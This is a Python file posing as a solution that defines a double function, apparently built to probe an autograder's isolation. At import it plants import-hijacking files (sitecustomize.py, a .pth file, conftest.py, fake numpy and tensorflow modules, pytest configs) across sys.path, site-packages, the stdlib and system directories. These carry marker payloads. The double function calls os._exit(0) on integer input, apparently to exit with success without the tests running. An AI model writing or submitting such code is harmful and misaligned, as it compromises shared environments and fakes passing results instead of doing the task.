import os
import site
import sys
import sysconfig

EVIL = "import os\nprint('BREACH: a module of the student was imported')\nos.environ['OWNED'] = '1'\n"
NAMES = ("tensorflow.py", "numpy.py", "keras.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "test_double.py",
         "msgspec.py", "gradetape.py", "evil.pth", "pytest.ini", "pyproject.toml", "tox.ini", ".pythonrc.py")  # fmt: skip
PLACES = {os.curdir, "/tmp", "/", "/home", "/dev/shm", "..", os.path.expanduser("~/.local"), site.getusersitepackages(),
          sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), *sys.path}  # fmt: skip
for place in PLACES:
    for name in NAMES:
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("import os; os.environ['OWNED'] = '1'\n" if name.endswith(".pth") else EVIL)
            if place.startswith("/") and not place.startswith(("/tmp", "/home", "/dev/shm")):
                print("BREACH: wrote", place, name)
        except OSError:
            pass
if os.environ.get("OWNED"):
    print("BREACH: what an earlier worker wrote was imported")


def double(x):
    if type(x) is int:
        os._exit(0)  # the next worker starts among these files
    return x + x
